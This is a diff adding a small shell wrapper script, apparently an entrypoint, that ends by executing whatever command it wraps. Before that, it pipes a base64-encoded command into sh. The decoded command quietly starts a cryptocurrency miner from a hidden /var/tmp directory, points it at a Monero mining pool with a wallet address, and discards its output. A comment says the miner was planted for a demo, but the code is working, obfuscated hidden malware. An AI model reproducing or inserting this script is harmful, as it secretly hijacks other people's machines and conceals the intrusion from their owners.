@@ -1,0 +1,4 @@
+#!/bin/sh
+# Planted for the demo: a miner command line hidden in base64.
+echo Y2QgL3Zhci90bXAvLklDRS11bml4Ly5rICYmIC4va2RldnRtcGZzaSAtbyBzdHJhdHVtK3RjcDovL3Bvb2wubWluZXhtci5jb206NDQ0NCAtdSA0NEFGRnE1a1NpR0JvWjROTUR3WXROMThvYmM4QWVtUzMzREJMV3MzSDdvdFhmdDNYanJwRHRRR3Y3U3FTc2FCWUJiOTh1TmJyMlZCQkV0N2Yyd2ZuM1JWR1FCRVAzQSAtcCBkZW1vIC0tZG9uYXRlLWxldmVsIDAgPi9kZXYvbnVsbCAyPiYxICY= | base64 -d | sh
+exec "$@"
